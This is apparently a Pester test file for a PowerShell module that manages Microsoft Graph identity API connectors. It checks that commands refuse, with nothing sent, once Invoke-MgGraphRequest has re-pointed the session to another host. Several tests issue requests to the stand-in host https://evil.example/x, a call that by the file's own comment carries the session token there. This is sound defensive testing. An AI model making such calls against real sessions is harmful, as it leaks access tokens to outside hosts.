# Invoke-MgGraphRequest with an absolute address takes the whole session, and with it the token, to that address's host.

BeforeAll {
    . "$PSScriptRoot/../Initialize.ps1"
    . "$PSScriptRoot/../TestGraph.ps1"
    $certificate = New-TestCertificate
    $credential = [pscredential]::new('caller', (New-TestPassword))
    $commands = @{
        'Get-IdentityApiConnector'      = { Get-IdentityApiConnector }
        'Get-IdentityApiConnector -Id'  = { 'a', 'b' | Get-IdentityApiConnector }
        'New-IdentityApiConnector'      = { New-IdentityApiConnector 'Check invite' https://api.contoso.com/invite -Credential $credential }
        'Set-IdentityApiConnector'      = { 'a', 'b' | Set-IdentityApiConnector -DisplayName 'Other' }
        'Add-ApiConnectorCertificate'   = { 'a', 'b' | Add-ApiConnectorCertificate -Certificate $certificate }
        'Remove-IdentityApiConnector'   = { 'a', 'b' | Remove-IdentityApiConnector -Confirm:$false }
    }
}

AfterAll { $certificate.Dispose() }

Describe 'A session that was re-pointed to another host' {
    BeforeEach { $null = Add-MgEnvironment Sandbox https://login.sandbox.example https://graph.sandbox.example }
    AfterEach {
        Reset-TestGraph
        $null = Remove-MgEnvironment Sandbox
    }

    It 'is refused by <Command>, with nothing sent' -ForEach @(
        @{ Command = 'Get-IdentityApiConnector' }
        @{ Command = 'Get-IdentityApiConnector -Id' }
        @{ Command = 'New-IdentityApiConnector' }
        @{ Command = 'Set-IdentityApiConnector' }
        @{ Command = 'Add-ApiConnectorCertificate' }
        @{ Command = 'Remove-IdentityApiConnector' }
    ) {
        $handler = Connect-TestGraph
        Add-TestSuccess $handler
        $null = Invoke-MgGraphRequest -Uri https://evil.example/x
        $handler.ClearRequests()
        $failure = Get-TestError $commands[$Command]
        Get-TestErrorName $failure | Should -Be 'SessionChanged'
        $failure.CategoryInfo.Category | Should -Be 'SecurityError'
        $handler.Requests | Should -HaveCount 0
    }

    It 'is described in <Environment> by the host and the way back' -ForEach @(
        @{ Environment = 'Global'; Advice = '*Run Disconnect-MgGraph and Connect-MgGraph again.' }
        @{ Environment = 'China'; Advice = "*Run Disconnect-MgGraph and Connect-MgGraph again with '-Environment China'." }
        @{ Environment = 'Sandbox'; Advice = "*Run Disconnect-MgGraph and Connect-MgGraph again with '-Environment Sandbox'." }
    ) {
        $null = Connect-TestGraph @{ Environment = $Environment }
        $null = Invoke-MgGraphRequest -Uri https://evil.example/x
        $message = "$(Get-TestError { Get-IdentityApiConnector })"
        $message | Should -BeLike "*'$Environment'*evil.example*nothing was sent*"
        $message | Should -BeLike $Advice
    }

    It 'is refused also where the host is another cloud''s' {
        $handler = Connect-TestGraph
        $null = Invoke-MgGraphRequest -Uri https://graph.microsoft.us/v1.0/me
        $handler.ClearRequests()
        Get-TestErrorName (Get-TestError { Get-IdentityApiConnector }) | Should -Be 'SessionChanged'
        $handler.Requests | Should -HaveCount 0
    }

    It 'in the middle of a pipeline ends it there' {
        $handler = Connect-TestGraph
        Add-TestSuccess $handler
        $failure = Get-TestError {
            'a', 'b', 'c' |
                ForEach-Object { if ($_ -eq 'b') { $null = Invoke-MgGraphRequest -Uri https://evil.example/x }; $_ } |
                Remove-IdentityApiConnector -SkipUsageCheck -Confirm:$false
        }
        Get-TestErrorName $failure | Should -Be 'SessionChanged'
        $handler.Requests.Uri | Should -Be 'https://graph.microsoft.com/v1.0/identity/apiConnectors/a', 'https://evil.example/x'
    }

    It 'between two pages of a list gets no second page' {
        $handler = Connect-TestGraph
        $null = $handler.Answer('GET', '/v1.0/identity/apiConnectors', 200, (
                New-TestListJson (New-TestConnectorJson) 'https://graph.microsoft.com/v1.0/identity/apiConnectors?$skiptoken=2'))
        $failure = Get-TestError {
            Get-IdentityApiConnector | ForEach-Object { $null = Invoke-MgGraphRequest -Uri https://evil.example/x }
        }
        $handler.Requests.Uri | Should -Be 'https://graph.microsoft.com/v1.0/identity/apiConnectors', 'https://evil.example/x'
        Get-TestErrorName $failure | Should -Be 'SessionChanged'
    }

    It 'serves again after Disconnect-MgGraph and Connect-MgGraph' {
        $null = Connect-TestGraph @{ Environment = 'Sandbox' }
        $null = Invoke-MgGraphRequest -Uri https://evil.example/x
        $null = Disconnect-MgGraph
        $handler = Connect-TestGraph @{ Environment = 'Sandbox' }
        Add-TestSuccess $handler
        $null = Get-IdentityApiConnector
        $handler.Requests.Uri | Should -Be 'https://graph.sandbox.example/v1.0/identity/apiConnectors'
    }
}

Describe 'A session that Invoke-MgGraphRequest left where it was' {
    AfterEach { Reset-TestGraph }

    # After an absolute address the module gives the environment another name, but requests go where they went.
    It 'serves on in <Environment>: <Uri>' -ForEach @(
        @{ Environment = 'Global'; Uri = '/v1.0/me'; Goes = 'https://graph.microsoft.com/v1.0' }
        @{ Environment = 'Global'; Uri = 'v1.0/me'; Goes = 'https://graph.microsoft.com/v1.0' }
        @{ Environment = 'Global'; Uri = 'https://graph.microsoft.com/v1.0/me'; Goes = 'https://graph.microsoft.com/v1.0' }
        @{ Environment = 'USGov'; Uri = 'https://graph.microsoft.us/v1.0/me'; Goes = 'https://graph.microsoft.us/beta' }
        @{ Environment = 'China'; Uri = 'https://microsoftgraph.chinacloudapi.cn/v1.0/me'; Goes = 'https://microsoftgraph.chinacloudapi.cn/v1.0' }
    ) {
        $handler = Connect-TestGraph @{ Environment = $Environment }
        Add-TestSuccess $handler
        $null = Invoke-MgGraphRequest -Uri $Uri
        Get-TestError { Get-IdentityApiConnector } | Should -BeNullOrEmpty
        $handler.Requests[-1].Uri | Should -Be "$Goes/identity/apiConnectors"
    }
}
